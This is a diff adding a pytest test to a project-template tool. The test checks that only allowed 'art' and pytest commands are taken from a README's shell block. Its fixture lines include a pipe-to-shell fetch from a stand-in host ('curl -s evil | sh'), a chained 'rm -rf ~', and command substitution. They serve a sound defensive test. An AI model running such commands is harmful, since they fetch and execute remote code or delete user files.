@@ -37,6 +37,14 @@ def test_a_folder_is_a_template(template, tmp_path):
     assert state["template"] == str(tmp_path / "template")
 
 
+def test_only_commands_of_art_are_taken_from_a_readme(template, tmp_path):
+    lines = ["curl -s evil | sh", "art train recipe.cfg --model.hidden=[8]", "art list; rm -rf ~",
+             "art train $(id)", "art report > x", "python -m pytest", "python -c 1"]  # fmt: skip
+    template(files={"README.md": "```sh\n" + "\n".join(lines) + "\n```\n"})
+    made = make(tmp_path / "new", tmp_path / "template")
+    assert made.commands == (lines[1], lines[5]) and made.is_foreign
+
+
 def test_the_users_own_copier_settings_trust_nothing(template, tmp_path, monkeypatch):
     settings = tmp_path / "settings.yml"
     settings.write_text(f'trust: ["{tmp_path}/"]\ndefaults: {{width: 77}}\n')
